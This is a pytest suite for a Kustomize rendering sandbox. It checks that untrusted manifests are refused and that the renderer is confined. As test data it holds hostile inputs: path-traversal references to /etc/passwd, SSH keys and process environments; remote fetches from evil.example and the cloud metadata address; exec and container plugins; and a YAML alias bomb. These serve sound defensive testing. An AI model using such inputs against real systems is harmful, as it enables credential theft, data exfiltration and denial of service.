"""A repository that is out for the machine gets nothing: not a file, not a process, not a connection, not its time."""

import os
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest

from clusters_app.render import Renderer, RenderRefused, render
from clusters_app.render.kustomize import Limits
from clusters_app.repo.tree import MemoryTree, Mode

LAUNCH = Path(__file__).parents[2] / "clusters_app/render/launch.py"
CONFIG = b"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: one\n"


def kustomization(text: str, **files: bytes) -> MemoryTree:
    return MemoryTree({"a/kustomization.yaml": text.encode(), **{f"a/{name}": data for name, data in files.items()}})


OUTSIDE = [
    "resources: [../../../../etc/passwd]",
    "resources: [/etc/passwd]",
    "resources: [../..]",
    "components: [../../x]",
    "patches: [{path: ../../../etc/passwd}]",
    "patchesStrategicMerge: [../../../etc/passwd]",
    "configMapGenerator: [{name: x, files: [../../../etc/passwd]}]",
    "configMapGenerator: [{name: x, files: [key=/etc/passwd]}]",
    "configMapGenerator: [{name: x, envs: [/proc/self/environ]}]",
    "secretGenerator: [{name: x, files: [/root/.ssh/id_rsa]}]",
    "openapi: {path: /etc/passwd}",
    "replacements: [{path: /etc/passwd}]",
    "crds: [/etc/passwd]",
    "configurations: [/etc/passwd]",
    "generators: [/etc/passwd]",
    "transformers: [../../../etc/passwd]",
]
REMOTE = [
    "resources: ['https://evil.example/x.yaml']",
    "resources: ['http://169.254.169.254/latest/meta-data']",
    "resources: ['https://github.com/acme/x//base?ref=main']",
    "resources: ['github.com/acme/x//base']",
    "resources: ['git@github.com:acme/x.git']",
    "resources: ['ssh://git@host/x']",
    "resources: ['git::https://host/x']",
    "bases: ['file:///etc']",
    "components: ['https://evil.example/c?version=1']",
]


@pytest.fixture
def nothing_starts(monkeypatch: pytest.MonkeyPatch) -> None:
    def started(*_: object) -> str:
        raise AssertionError("kustomize was started")

    monkeypatch.setattr("clusters_app.render.kustomize.run", started)


@pytest.mark.usefixtures("nothing_starts")
@pytest.mark.parametrize(
    ("code", "text"), [("render.outside", each) for each in OUTSIDE] + [("render.remote", each) for each in REMOTE]
)
def test_a_reference_that_leaves_the_repository_is_refused_before_anything_starts(code: str, text: str) -> None:
    with pytest.raises(RenderRefused) as refused:
        render(kustomization(text), "a")
    assert refused.value.code == code
    assert refused.value.problem.startswith("a/kustomization.yaml:1 ")


@pytest.mark.usefixtures("nothing_starts")
def test_links_charts_and_circles_are_refused_before_anything_starts() -> None:
    files = {"a/kustomization.yaml": b"resources: [link.yaml]\n", "a/link.yaml": b"/etc/passwd"}
    trees = {
        "render.link": MemoryTree(files, modes={"a/link.yaml": Mode.LINK}),
        "render.charts": kustomization("helmCharts: [{name: x, repo: 'https://charts.example'}]"),
        "render.cycle": MemoryTree(
            {"a/kustomization.yaml": b"resources: [../b]", "b/kustomization.yaml": b"resources: [../a]"}
        ),
    }
    for code, tree in trees.items():
        with pytest.raises(RenderRefused) as refused:
            render(tree, "a")
        assert refused.value.code == code


EXEC = """\
apiVersion: example.org/v1
kind: Owned
metadata:
  name: x
  annotations:
    config.kubernetes.io/function: |
      exec: {path: ./run.sh}
"""
CONTAINER = EXEC.replace("exec: {path: ./run.sh}", "container: {image: evil.example/x, network: true}")


@pytest.mark.parametrize("field", ["generators", "transformers", "validators"])
@pytest.mark.parametrize("plugin", [EXEC, CONTAINER])
def test_plugins_never_run(field: str, plugin: str, tmp_path: Path) -> None:
    script = f"#!/bin/sh\ntouch {tmp_path}/owned\n".encode()
    files = {
        "a/kustomization.yaml": f"resources: [one.yaml]\n{field}: [plugin.yaml]\n".encode(),
        "a/plugin.yaml": plugin.encode(),
        "a/one.yaml": CONFIG,
        "a/run.sh": script,
    }
    with pytest.raises(RenderRefused) as refused:
        render(MemoryTree(files, modes={"a/run.sh": Mode.EXECUTABLE}), "a")
    assert refused.value.code == "render.kustomize"
    assert not (tmp_path / "owned").exists()


def test_an_alias_bomb_costs_a_bounded_time() -> None:
    rows = [b"a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    rows += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]".encode() for n in range(1, 12)]
    bomb = CONFIG + b"data:\n  " + b"\n  ".join(rows) + b"\n"
    tree = MemoryTree({"a/kustomization.yaml": b"resources: [bomb.yaml]\n", "a/bomb.yaml": bomb})
    started = time.monotonic()
    with pytest.raises(RenderRefused):
        Renderer(tree, limits=Limits(seconds=10, memory_bytes=300_000_000)).render("a")
    assert time.monotonic() - started < 15


def test_an_output_that_grows_too_large_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    big = b"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: big}\ndata: {a: '" + b"x" * 300_000 + b"'}\n"
    tree = MemoryTree({"a/kustomization.yaml": b"resources: [big.yaml]\n", "a/big.yaml": big})
    with pytest.raises(RenderRefused) as refused:
        Renderer(tree, limits=Limits(output_bytes=100_000)).render("a")
    assert refused.value.code == "render.too-large"


def test_memory_and_time_have_an_end() -> None:
    many = b"---\n".join(CONFIG.replace(b"one", f"n{n}".encode()) for n in range(4000))
    tree = MemoryTree({"a/kustomization.yaml": b"resources: [m.yaml]\nnamePrefix: x-\n", "a/m.yaml": many})
    with pytest.raises(RenderRefused) as slow:
        Renderer(tree, limits=Limits(seconds=1)).render("a")
    assert slow.value.code in ("render.too-slow", "render.killed")
    with pytest.raises(RenderRefused) as large:
        Renderer(tree, limits=Limits(memory_bytes=20_000_000)).render("a")
    assert large.value.code == "render.killed"


def test_a_build_that_reads_too_much_is_not_started() -> None:
    files = {f"a/f{n}.yaml": CONFIG + b"#" * 15_000_000 for n in range(5)}
    with pytest.raises(RenderRefused) as refused:
        render(MemoryTree(files), "a")
    assert refused.value.code == "render.too-many-files"


def test_nothing_stays_behind_and_names_that_cannot_be_written_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    render(MemoryTree({"left/one.yaml": CONFIG}), "left")
    with pytest.raises(RenderRefused) as refused:
        render(MemoryTree({f"left/{'x' * 300}.yaml": CONFIG}), "left")
    assert refused.value.code == "render.path"
    assert list(tmp_path.iterdir()) == []


def test_the_program_gets_none_of_our_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DJANGO_SECRET_KEY", "leaked")
    monkeypatch.setenv("KUBECONFIG", "/root/.kube/config")
    seen: dict[str, object] = {}
    real = subprocess.Popen

    def spy(*arguments: object, **options: object) -> object:
        seen.update(options)
        return real(*arguments, **options)  # type: ignore[call-overload]

    monkeypatch.setattr("clusters_app.render.kustomize.subprocess.Popen", spy)
    render(MemoryTree({"own/one.yaml": CONFIG + b"data: {environment: own}\n"}), "own")
    environment = seen["env"]
    assert isinstance(environment, dict)
    assert set(environment) == {"PATH", "HOME", "LANG", "KUBERC", "GOMAXPROCS"}
    assert "leaked" not in environment.values()


CONFINED = """
    import importlib.util, os, socket, subprocess, sys
    spec = importlib.util.spec_from_file_location("launch", {launch!r})
    launch = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(launch)
    launch._libc.prctl(38, 1, 0, 0, 0)
    launch.confine_files({directory!r}, sys.executable)
    launch.confine_calls()
    def tried(name, call):
        try:
            call()
        except OSError as error:
            print(name, type(error).__name__)
        else:
            print(name, "done")
    tried("inside", lambda: open({directory!r} + "/given").read())
    tried("passwd", lambda: open("/etc/passwd").read())
    tried("up", lambda: open({directory!r} + "/../secret").read())
    tried("link", lambda: open({directory!r} + "/link").read())
    tried("list", lambda: os.listdir("/"))
    tried("write", lambda: open({directory!r} + "/new", "w"))
    tried("remove", lambda: os.remove({directory!r} + "/given"))
    tried("socket", lambda: socket.socket(socket.AF_INET))
    tried("datagram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    tried("unix", lambda: socket.socket(socket.AF_UNIX))
    tried("signal", lambda: os.kill(os.getppid(), 0))
    tried("shell", lambda: os.execv("/bin/sh", ["sh"]))
"""


def confined(directory: Path) -> dict[str, str]:
    script = textwrap.dedent(CONFINED.format(launch=str(LAUNCH), directory=str(directory)))
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False, timeout=30)
    assert done.returncode == 0, done.stderr
    return dict(line.split() for line in done.stdout.splitlines())


def test_a_confined_process_reads_its_directory_and_can_do_nothing_else(tmp_path: Path) -> None:
    directory = tmp_path / "d"
    directory.mkdir()
    (directory / "given").write_text("given")
    (tmp_path / "secret").write_text("secret")
    (directory / "link").symlink_to(tmp_path / "secret")
    refused = {"passwd", "up", "link", "list", "write", "remove", "socket", "datagram", "unix", "signal", "shell"}
    assert confined(directory) == {"inside": "done"} | dict.fromkeys(refused, "PermissionError")
    assert (directory / "given").exists()


def test_without_landlock_nothing_is_started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The real launcher, under a filter that takes its first step away, as an old kernel would."""
    wrapper = tmp_path / "old_kernel.py"
    wrapper.write_text(
        textwrap.dedent(f"""
            import runpy, sys
            sys.path.insert(0, {str(LAUNCH.parent)!r})
            import launch
            kind, _ = launch._FORBIDDEN[launch.platform.machine()]
            launch._FORBIDDEN[launch.platform.machine()] = (kind, (444,))
            launch._libc.prctl(38, 1, 0, 0, 0)
            launch.confine_calls()
            runpy.run_path({str(LAUNCH)!r}, run_name="__main__")
        """)
    )
    monkeypatch.setattr("clusters_app.render.kustomize._LAUNCH", wrapper)
    with pytest.raises(RenderRefused) as refused:
        render(MemoryTree({"alone/one.yaml": CONFIG + b"data: {kernel: old}\n"}), "alone")
    assert refused.value.code == "render.not-isolated"
    assert "Landlock is not available" in refused.value.problem
    assert "Linux" in refused.value.remedy


def test_no_worker_s_child_is_left(tmp_path: Path) -> None:
    before = {entry.name for entry in Path("/proc").iterdir() if entry.name.isdigit()}
    with pytest.raises(RenderRefused):
        Renderer(MemoryTree({"s/one.yaml": CONFIG + b"#slow\n"}), limits=Limits(seconds=0)).render("s")
    children = Path(f"/proc/self/task/{os.getpid()}/children").read_text().split()
    assert set(children) <= before
